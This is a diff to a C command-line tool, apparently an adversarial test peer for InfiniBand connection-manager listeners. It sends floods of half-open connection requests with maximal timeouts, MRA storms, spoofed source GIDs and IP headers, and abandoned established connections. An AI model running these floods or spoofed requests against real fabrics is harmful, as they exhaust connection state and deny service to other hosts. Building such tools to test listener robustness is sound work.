@@ -11,12 +11,16 @@
  * answers every REQ seen with an MRA (service timeout TIMEOUT) every
  * 20 ms until SIGTERM, never a REP; then prints how many MRAs it sent.
  *
- * hostile req LID GID SID COUNT IP: a requester that never completes:
- * COUNT REQs (RC, each its own comm ID) to LID/GID for service SID with
- * an Annex A11 header claiming source IP, the longest CM response
- * timeout and most retries a REQ can ask for (the listener's ib_cm then
- * keeps each REP outstanding for hours), never an RTU; prints each REP
- * and REJ (reason, private data text) until SIGTERM. */
+ * hostile req LID GID SID COUNT IP [as CLAIM_GID] [rtu]: a requester
+ * that never completes: COUNT REQs (RC, each its own comm ID) to LID/GID
+ * for service SID with an Annex A11 header claiming source IP, the
+ * longest CM response timeout and most retries a REQ can ask for (the
+ * listener's ib_cm then keeps each REP outstanding for hours), never an
+ * RTU; prints each REP and REJ (reason, private data text) until
+ * SIGTERM. "as": the REQ's primary path names CLAIM_GID as the
+ * requester's (another host's) with this port's own LID, where the REP
+ * comes back. "rtu": each REP gets its RTU, and the requester then
+ * leaves without a DREQ: established connections nobody uses. */
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -175,52 +179,78 @@ static int storm(uint8_t timeout)
 	return 0;
 }
 
+/* Where the REQs go; whether each REP gets its RTU. */
+struct req_peer {
+	struct mport *p;
+	int agent;
+	struct mport_dest d;
+	int rtu;
+};
+
 /* Each answer to our REQs, the REJ's text up to its first NUL. */
 static size_t req_answer(const uint8_t *mad, size_t len, uint8_t *resp, size_t cap, void *ctx)
 {
 	uint16_t attr = wire_get16(mad + MAD_OFF_ATTR_ID);
+	struct req_peer *q = ctx;
 	struct cmwire_rep rep;
 	struct cmwire_rej rej;
+	struct cmwire_rtu rtu;
+	uint8_t m[MAD_SIZE];
 
 	(void)resp;
 	(void)cap;
-	(void)ctx;
 	if (len < CMWIRE_DATA_OFF + CMWIRE_DATA_SIZE)
 		return 0;
-	if (attr == CMWIRE_ATTR_REP && !cmwire_rep_decode(mad + CMWIRE_DATA_OFF, len - CMWIRE_DATA_OFF, &rep))
+	if (attr == CMWIRE_ATTR_REP && !cmwire_rep_decode(mad + CMWIRE_DATA_OFF, len - CMWIRE_DATA_OFF, &rep)) {
 		printf("REP 0x%08x\n", rep.remote_comm_id);
-	else if (attr == CMWIRE_ATTR_REJ &&
+		if (!q->rtu)
+			return 0;
+		memset(&rtu, 0, sizeof(rtu));
+		rtu.local_comm_id = rep.remote_comm_id;
+		rtu.remote_comm_id = rep.local_comm_id;
+		hdr(m, CMWIRE_CLASS, CMWIRE_CLASS_VERSION, 0x03, CMWIRE_ATTR_RTU);
+		wire_put64(m + MAD_OFF_TID, 0x5eed100000000000ull | rep.remote_comm_id);
+		cmwire_rtu_encode(m + CMWIRE_DATA_OFF, &rtu);
+		mport_send(q->p, q->agent, &q->d, m, MAD_SIZE);
+	} else if (attr == CMWIRE_ATTR_REJ &&
 		 !cmwire_rej_decode(mad + CMWIRE_DATA_OFF, len - CMWIRE_DATA_OFF, &rej))
 		printf("REJ 0x%08x reason %u: %.*s\n", rej.remote_comm_id, rej.reason,
 		       (int)strnlen((const char *)rej.private_data, CMWIRE_REJ_PDATA), rej.private_data);
 	return 0;
 }
 
-static int half_open(char **argv)
+static int half_open(int argc, char **argv)
 {
-	struct mport_dest d = { (uint16_t)strtoul(argv[2], NULL, 0), 1, 0x80010000, 0 };
+	struct req_peer q = { NULL, 0, { (uint16_t)strtoul(argv[2], NULL, 0), 1, 0x80010000, 0 }, 0 };
 	unsigned i, n = (unsigned)strtoul(argv[5], NULL, 0);
 	struct sigaction sa = { 0 };
 	struct mport_info pi;
 	struct cmwire_req r;
 	struct a11_pdata ip;
-	uint8_t mad[MAD_SIZE], gid[16];
-	struct mport *p;
-	int agent;
+	uint8_t mad[MAD_SIZE], gid[16], claim[16];
+	int a, as = 0;
 
 	memset(&ip, 0, sizeof(ip));
 	if (ats_gid_parse(argv[3], gid) || ats_ip_parse(argv[6], &ip.src))
 		return 2;
+	for (a = 7; a < argc; a++) {
+		if (!strcmp(argv[a], "rtu"))
+			q.rtu = 1;
+		else if (!strcmp(argv[a], "as") && a + 1 < argc && !ats_gid_parse(argv[a + 1], claim))
+			as = ++a;
+		else
+			return 2;
+	}
 	ip.dst = ip.src;
 	sa.sa_handler = on_term;
 	sigaction(SIGTERM, &sa, NULL);
 	setvbuf(stdout, NULL, _IOLBF, 0);
-	if (mport_open(&p, NULL, 0) || mport_query(p, &pi))
+	if (mport_open(&q.p, NULL, 0) || mport_query(q.p, &pi))
 		return 3;
-	agent = mport_register_serve(p, CMWIRE_CLASS, CMWIRE_CLASS_VERSION, 0x03);
-	if (agent < 0)
+	q.agent = mport_register_serve(q.p, CMWIRE_CLASS, CMWIRE_CLASS_VERSION, 0x03);
+	if (q.agent < 0)
 		return 3;
-	mport_set_responder(p, req_answer, NULL);
+	mport_set_responder(q.p, req_answer, &q);
 	for (i = 0; i < n; i++) {
 		memset(&r, 0, sizeof(r));
 		r.local_comm_id = 0x5eed0000 + i;
@@ -236,8 +266,8 @@ static int half_open(char **argv)
 		r.retry_count = 7;
 		r.rnr_retry_count = 7;
 		r.primary.local_lid = pi.lid;
-		r.primary.remote_lid = d.lid;
-		memcpy(r.primary.local_gid, pi.gid, 16);
+		r.primary.remote_lid = q.d.lid;
+		memcpy(r.primary.local_gid, as ? claim : pi.gid, 16);
 		memcpy(r.primary.remote_gid, gid, 16);
 		r.primary.subnet_local = 1;
 		r.primary.local_ack_timeout = 14;
@@ -247,12 +277,12 @@ static int half_open(char **argv)
 		hdr(mad, CMWIRE_CLASS, CMWIRE_CLASS_VERSION, 0x03, CMWIRE_ATTR_REQ);
 		wire_put64(mad + MAD_OFF_TID, 0x5eed000000000000ull + i);
 		cmwire_req_encode(mad + CMWIRE_DATA_OFF, &r);
-		mport_send(p, agent, &d, mad, MAD_SIZE);
+		mport_send(q.p, q.agent, &q.d, mad, MAD_SIZE);
 	}
 	printf("sent %u REQs\n", n);
 	while (!stop)
-		mport_serve(p, 100);
-	mport_close(p);
+		mport_serve(q.p, 100);
+	mport_close(q.p);
 	return 0;
 }
 
@@ -264,8 +294,8 @@ int main(int argc, char **argv)
 	uint8_t m[MAD_SIZE];
 	unsigned i, v;
 
-	if (argc == 7 && !strcmp(argv[1], "req"))
-		return half_open(argv);
+	if (argc >= 7 && argc <= 10 && !strcmp(argv[1], "req"))
+		return half_open(argc, argv);
 	if (argc == 3 && !strcmp(argv[1], "mra"))
 		return storm((uint8_t)(strtoul(argv[2], NULL, 0) & 0x1f));
 	if (argc != 3 && (argc != 4 || strcmp(argv[3], "reports")))
